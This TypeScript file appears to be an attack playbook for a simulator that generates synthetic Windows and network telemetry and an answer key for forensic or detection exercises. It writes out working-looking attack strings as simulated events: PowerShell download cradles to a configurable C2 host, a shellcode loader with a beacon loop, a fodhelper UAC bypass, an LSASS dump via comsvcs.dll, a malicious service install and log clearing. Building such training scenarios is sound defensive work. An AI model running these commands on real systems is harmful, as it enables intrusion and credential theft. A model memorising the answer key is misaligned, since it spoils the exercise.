// A phishing document opens an encoded PowerShell download cradle, which loads a script
// from an outside host and beacons to it at a fixed interval. The attacker elevates
// through fodhelper, dumps LSASS with comsvcs.dll, moves to a server as an administrator
// by installing a service, starts an implant that unlinks itself from the process list,
// and clears the Security and System logs of the first host.

import type { Host } from '../host.ts';
import type { Logon, Proc } from '../model.ts';
import { MICROS_PER_MINUTE, MICROS_PER_SECOND } from '../time.ts';
import type { World } from '../world.ts';
import { encodedCommand, injectedStub, Parameters, selfSignedCertificate } from './common.ts';
import type { Playbook } from './types.ts';

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const BEACON_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko';

interface Settings {
  victim: string;
  server: string;
  admin: string;
  document: string;
  phishAt: number;
  c2Domain: string;
  c2Ip: string;
  stagePath: string;
  beacon: number;
  serviceName: string;
  implant: string;
  dumpFile: string;
}

function settings(world: World): Settings {
  const p = new Parameters(world.def, world.def.attack);
  const victim = p.host('victim');
  const user = world.def.hosts.find((host) => host.name === victim)!.user;
  if (!user) throw new Error(`scenario ${world.def.name}: attack.victim ${victim} must be a workstation with a user`);
  return {
    victim,
    server: p.host('server'),
    admin: p.user('admin'),
    document: p.string('document'),
    phishAt: world.start + p.number('phishAfterMinutes', 1, 60 * 24) * MICROS_PER_MINUTE,
    c2Domain: p.string('c2Domain'),
    c2Ip: p.string('c2Ip'),
    stagePath: p.string('stagePath'),
    beacon: p.number('beaconSeconds', 5, 3600) * MICROS_PER_SECOND,
    serviceName: p.string('serviceName'),
    implant: p.string('implant'),
    dumpFile: p.string('dumpFile'),
  };
}

/** A stage-two script large enough that PowerShell logs it in several 4104 parts. */
function stageScript(world: World, s: Settings): string {
  const blob = Buffer.from(Array.from({ length: 27000 }, () => world.random.int(0, 255))).toString('base64');
  return [
    '$ErrorActionPreference = "SilentlyContinue"',
    `$u = "https://${s.c2Domain}/api/v2/sync"`,
    'function Get-Id { (Get-CimInstance Win32_ComputerSystemProduct).UUID }',
    'Add-Type -TypeDefinition @"',
    'using System; using System.Runtime.InteropServices;',
    'public static class K {',
    '  [DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);',
    '  [DllImport("kernel32")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);',
    '}',
    '"@',
    `$b = [Convert]::FromBase64String("${blob}")`,
    '$m = [K]::VirtualAlloc([IntPtr]::Zero, [uint32]$b.Length, 0x3000, 0x40)',
    '[Runtime.InteropServices.Marshal]::Copy($b, 0, $m, $b.Length)',
    '[K]::CreateThread([IntPtr]::Zero, 0, $m, [IntPtr]::Zero, 0, [IntPtr]::Zero) | Out-Null',
    `while ($true) { try { $r = Invoke-WebRequest -UseBasicParsing -Uri $u -Headers @{ "X-Id" = (Get-Id) }; if ($r.Content) { IEX $r.Content } } catch {} ; Start-Sleep -Seconds ${Math.round(s.beacon / MICROS_PER_SECOND)} }`,
  ].join('\r\n');
}

export const powershellPhish: Playbook = {
  estimate(world) {
    const s = settings(world);
    const minutes = (world.end - s.phishAt) / MICROS_PER_MINUTE;
    const beacons = (minutes * MICROS_PER_MINUTE) / s.beacon;
    return Math.round(beacons * 3 * 1.5 + (minutes / 5) * 6 + 120);
  },

  schedule(world) {
    const s = settings(world);
    const random = world.random;
    const victim = world.host(s.victim);
    const server = world.host(s.server);
    const c2Cert = selfSignedCertificate(world, s.c2Domain);
    world.addDns(s.c2Domain, [s.c2Ip], 300);
    const key = world.key;
    key.ip(s.c2Ip);
    key.domain(s.c2Domain);
    key.url(`https://${s.c2Domain}${s.stagePath}`);
    const user = victim.console!;
    const userName = user.account.name;
    const attachment = `C:\\Users\\${userName}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${random.hex(8).toUpperCase()}\\${s.document}`;
    key.file(attachment, true);
    key.file(s.implant, true);
    key.file(s.dumpFile);
    const t0 = s.phishAt;
    const at = (seconds: number) => t0 + Math.round(seconds * MICROS_PER_SECOND) + random.int(0, 400_000);
    const clearAt = at(75 * 60);
    victim.securityClearedAt = clearAt;
    victim.systemClearedAt = clearAt + 3 * MICROS_PER_SECOND;

    let cradle: Proc;
    let elevated: Proc;
    let serverBeacon: Proc | null = null;

    // Initial access: Outlook saves the attachment, Word opens it.
    world.schedule(at(0), (time) => {
      const outlook = [...victim.live.values()].find((proc) => proc.image.endsWith('OUTLOOK.EXE'))!;
      world.fileCreated(outlook, time, attachment, 'initial-access', `Outlook saved the attachment ${s.document}`);
      const word = world.startProcess(time + 4 * MICROS_PER_SECOND, {
        parent: outlook,
        image: WORD,
        commandLine: `"${WORD}" /n "${attachment}" /o ""`,
        cwd: `C:\\Users\\${userName}\\Documents\\`,
        lifetime: 40 * MICROS_PER_MINUTE,
        step: 'initial-access',
        description: `Word opened the phishing document ${s.document}`,
      });
      // Execution: the document's macro starts an encoded download cradle.
      const cradleScript = `$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','${BEACON_UA}');IEX $w.DownloadString('https://${s.c2Domain}${s.stagePath}')`;
      const cradleAt = time + 9 * MICROS_PER_SECOND;
      cradle = world.startProcess(cradleAt, {
        parent: word,
        image: POWERSHELL,
        commandLine: `powershell.exe -NoP -NonI -W Hidden -Enc ${encodedCommand(cradleScript)}`,
        lifetime: null,
        step: 'execution',
        description: 'Word started PowerShell with an encoded download cradle',
      });
      world.scriptBlock(cradle, cradleAt + 700_000, cradleScript, {
        suspicious: true,
        step: 'execution',
        description: 'Decoded download cradle',
      });
      const { address, time: resolved } = world.resolve(cradle, cradleAt + 1_200_000, s.c2Domain, 'command-and-control');
      const stageAt = resolved + random.int(5000, 40000);
      world.connect(stageAt, {
        proc: cradle,
        dstIp: address,
        dstPort: 443,
        service: 'ssl',
        duration: random.int(400_000, 1_500_000),
        bytesOut: random.int(900, 1400),
        bytesIn: random.int(38_000, 44_000),
        dstName: s.c2Domain,
        ssl: {
          serverName: s.c2Domain,
          version: 'TLSv12',
          cipher: 'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384',
          cert: c2Cert,
          validation: 'self signed certificate',
        },
        step: 'command-and-control',
        description: `PowerShell downloaded the stage-two script from ${s.c2Domain}`,
      });
      const stage = stageScript(world, s);
      world.scriptBlock(cradle, stageAt + 2 * MICROS_PER_SECOND, stage, {
        suspicious: true,
        step: 'execution',
        description: 'Stage-two loader script',
      });
      victim.injections.push(injectedStub(world, cradle, 'execution'));
      scheduleBeacons(world, cradle, s, c2Cert, stageAt + 30 * MICROS_PER_SECOND, 'command-and-control');
    });

    // Discovery from the beacon process.
    world.schedule(at(6 * 60), (time) => {
      const commands: [string, string, number][] = [
        [`${SYSTEM32}\\whoami.exe`, '"C:\\Windows\\system32\\whoami.exe" /all', 0],
        [`${SYSTEM32}\\net.exe`, '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain', 40],
        [`${SYSTEM32}\\nltest.exe`, `"C:\\Windows\\system32\\nltest.exe" /dclist:${world.def.domain.dnsName}`, 95],
      ];
      for (const [image, commandLine, offset] of commands) {
        const proc = world.startProcess(time + offset * MICROS_PER_SECOND, {
          parent: cradle,
          image,
          commandLine,
          lifetime: random.int(1, 4) * MICROS_PER_SECOND,
          step: 'discovery',
        });
        if (image.endsWith('net.exe')) {
          world.startProcess(time + offset * MICROS_PER_SECOND + 30_000, {
            parent: proc,
            image: `${SYSTEM32}\\net1.exe`,
            commandLine: 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain',
            lifetime: 2 * MICROS_PER_SECOND,
            step: 'discovery',
          });
        }
      }
    });

    // Privilege escalation: the fodhelper auto-elevation bypass starts an elevated PowerShell.
    world.schedule(at(12 * 60), (time) => {
      const fodhelper = world.startProcess(time, {
        parent: cradle,
        image: `${SYSTEM32}\\fodhelper.exe`,
        commandLine: '"C:\\Windows\\system32\\fodhelper.exe"',
        integrity: 'High',
        lifetime: 3 * MICROS_PER_SECOND,
        step: 'privilege-escalation',
        description: 'PowerShell started fodhelper.exe, a UAC bypass',
      });
      const elevatedLogon: Logon = { ...user, id: victim.newLogonId(), elevated: true };
      const script = `IEX (New-Object Net.WebClient).DownloadString('https://${s.c2Domain}${s.stagePath}')`;
      elevated = world.startProcess(time + 1_500_000, {
        parent: fodhelper,
        image: POWERSHELL,
        commandLine: `powershell.exe -NoP -W Hidden -Enc ${encodedCommand(script)}`,
        logon: elevatedLogon,
        integrity: 'High',
        lifetime: null,
        step: 'privilege-escalation',
        description: 'fodhelper.exe started an elevated PowerShell',
      });
      world.scriptBlock(elevated, time + 2_300_000, script, {
        suspicious: true,
        step: 'privilege-escalation',
        description: 'Elevated download cradle',
      });
    });

    // Credential access: comsvcs.dll MiniDump of LSASS.
    world.schedule(at(18 * 60), (time) => {
      const lsass = victim.known.lsass!;
      const dump = world.startProcess(time, {
        parent: elevated,
        image: `${SYSTEM32}\\rundll32.exe`,
        commandLine: `"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${s.dumpFile} full`,
        lifetime: 6 * MICROS_PER_SECOND,
        step: 'credential-access',
        description: 'rundll32 comsvcs.dll MiniDump of LSASS',
      });
      world.processAccess(
        dump,
        lsass,
        time + 400_000,
        '0x1FFFFF',
        'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|c:\\windows\\system32\\dbgcore.DLL+6c6f|C:\\Windows\\System32\\comsvcs.dll+29a54',
        'credential-access',
        'rundll32.exe opened lsass.exe with full access',
      );
      world.fileCreated(dump, time + 2 * MICROS_PER_SECOND, s.dumpFile, 'credential-access', `LSASS memory written to ${s.dumpFile}`);
    });

    // Lateral movement: the administrator's stolen credentials install a service on the server.
    world.schedule(at(40 * 60), (time) => {
      const admin = world.user(s.admin);
      const flow = world.connect(time, {
        proc: elevated,
        dstIp: server.ip,
        dstPort: 445,
        service: 'smb,ntlm',
        duration: random.int(3, 9) * MICROS_PER_SECOND,
        bytesOut: random.int(9000, 16000),
        bytesIn: random.int(6000, 12000),
        dstName: server.fqdn,
        step: 'lateral-movement',
        description: `SMB from ${victim.name} to ${server.name} with ${admin.domain}\\${admin.name}`,
      });
      const logon = world.logon(server, time + 150_000, {
        account: admin,
        type: 3,
        package: 'NTLM',
        sourceIp: victim.ip,
        sourcePort: flow.srcPort,
        workstation: victim.name,
        privileged: true,
        elevated: true,
        step: 'lateral-movement',
        description: `Network logon of ${admin.domain}\\${admin.name} from ${victim.name} (${victim.ip}) with NTLM`,
      });
      const payload = `$c=New-Object Net.WebClient;IEX $c.DownloadString('https://${s.c2Domain}${s.stagePath}')`;
      const imagePath = `%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc ${encodedCommand(payload)}`;
      const installAt = time + 900_000;
      world.serviceInstalled(server, installAt, logon, { name: s.serviceName, imagePath }, 'lateral-movement');
      const startAt = installAt + 400_000;
      world.serviceState(server, startAt, { key: s.serviceName, display: s.serviceName }, true, 'lateral-movement');
      const cmd = world.startProcess(startAt + 20_000, {
        parent: server.known.services!,
        image: `${SYSTEM32}\\cmd.exe`,
        commandLine: `C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell.exe -nop -w hidden -enc ${encodedCommand(payload)}`,
        logon: server.systemLogon,
        lifetime: 2 * MICROS_PER_SECOND,
        step: 'lateral-movement',
        description: `Service ${s.serviceName} started cmd.exe on ${server.name}`,
      });
      serverBeacon = world.startProcess(startAt + 200_000, {
        parent: cmd,
        image: POWERSHELL,
        commandLine: `powershell.exe  -nop -w hidden -enc ${encodedCommand(payload)}`,
        logon: server.systemLogon,
        lifetime: null,
        step: 'lateral-movement',
        description: `PowerShell beacon started on ${server.name} as SYSTEM`,
      });
      world.scriptBlock(serverBeacon, startAt + 900_000, payload, {
        suspicious: true,
        step: 'lateral-movement',
        description: `Download cradle on ${server.name}`,
      });
      server.injections.push(injectedStub(world, serverBeacon, 'lateral-movement'));
      world.serviceState(
        server,
        startAt + 30 * MICROS_PER_SECOND,
        { key: s.serviceName, display: s.serviceName },
        false,
        'lateral-movement',
      );
      scheduleBeacons(world, serverBeacon, s, c2Cert, startAt + 20 * MICROS_PER_SECOND, 'command-and-control', 2);
    });

    // Persistence and defence evasion: an implant that unlinks itself from the active process list.
    world.schedule(at(52 * 60), (time) => {
      world.fileCreated(elevated, time, s.implant, 'defense-evasion', `Implant written to ${s.implant}`);
      world.startProcess(time + 5 * MICROS_PER_SECOND, {
        parent: elevated,
        image: s.implant,
        commandLine: `"${s.implant}" -service`,
        integrity: 'High',
        lifetime: null,
        hidden: true,
        step: 'defense-evasion',
        description: 'Implant started; it hides from the active process list (psscan only)',
      });
    });

    // Defence evasion: the Security and System logs of the victim are cleared.
    world.schedule(clearAt - 300_000, (time) => {
      world.startProcess(time, {
        parent: elevated,
        image: `${SYSTEM32}\\wevtutil.exe`,
        commandLine: 'wevtutil.exe cl Security',
        lifetime: 900_000,
        step: 'defense-evasion',
        description: 'wevtutil cleared the Security log',
      });
    });
    world.schedule(clearAt, (time) => world.clearLog(victim, 'security', time, elevated.logon, 'defense-evasion'));
    world.schedule(victim.systemClearedAt - 300_000, (time) => {
      world.startProcess(time, {
        parent: elevated,
        image: `${SYSTEM32}\\wevtutil.exe`,
        commandLine: 'wevtutil.exe cl System',
        lifetime: 900_000,
        step: 'defense-evasion',
        description: 'wevtutil cleared the System log',
      });
    });
    world.schedule(victim.systemClearedAt, (time) => world.clearLog(victim, 'system', time, elevated.logon, 'defense-evasion'));

    const minutes = Math.round(s.beacon / MICROS_PER_SECOND);
    key.finding(
      `${victim.name}: ${userName} opened ${s.document} from Outlook; WINWORD.EXE started powershell.exe with an encoded download cradle (-Enc).`,
    );
    key.finding(
      `The cradle fetched ${s.stagePath} from ${s.c2Domain} (${s.c2Ip}) over TLS with a self-signed certificate, then beaconed there every ${minutes} seconds.`,
    );
    key.finding(
      `fodhelper.exe (UAC bypass) started an elevated PowerShell, which dumped LSASS with rundll32 comsvcs.dll MiniDump to ${s.dumpFile}.`,
    );
    key.finding(
      `With ${world.def.domain.netbios}\\${s.admin}'s credentials the attacker logged on to ${server.name} over SMB (4624 type 3, NTLM) and installed service ${s.serviceName} (7045, 4697) that runs an encoded PowerShell cradle as SYSTEM; it beacons to the same host.`,
    );
    key.finding(
      `${s.implant} runs on ${victim.name} but is unlinked from the active process list: psscan shows it, pslist and pstree do not.`,
    );
    key.finding(
      `The Security log of ${victim.name} was cleared (1102) and then the System log (104); Sysmon still holds the earlier process starts.`,
    );
    key.finding(`PowerShell's memory on both hosts holds private executable pages with shellcode (malfind).`);
    void serverBeacon;
  },
};

/** Beacons from `proc` to the C2 host every `beacon` microseconds (times `every`), with half-second jitter, until the end. */
function scheduleBeacons(
  world: World,
  proc: Proc,
  s: Settings,
  cert: ReturnType<typeof selfSignedCertificate>,
  first: number,
  step: string,
  every = 1,
): void {
  const random = world.random;
  const interval = s.beacon * every;
  const tick = (time: number) => {
    if (proc.end !== null) return;
    const { address, time: resolved } = world.resolve(proc, time, s.c2Domain, step);
    const start = resolved + random.int(2000, 20000);
    const next = time + interval + random.int(-500_000, 500_000);
    world.connect(start, {
      proc,
      dstIp: address,
      dstPort: 443,
      service: 'ssl',
      duration: random.int(200_000, 900_000),
      bytesOut: random.int(480, 1900),
      bytesIn: random.int(300, 2400),
      dstName: s.c2Domain,
      ssl: {
        serverName: s.c2Domain,
        version: 'TLSv12',
        cipher: 'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384',
        cert,
        validation: 'self signed certificate',
      },
      openAtCapture: next >= world.end,
      step,
      description: `Beacon from ${proc.host.name} PID ${proc.pid} to ${s.c2Domain}`,
    });
    if (next < world.end) world.schedule(next, tick);
  };
  world.schedule(first, tick);
}

export type { Host };
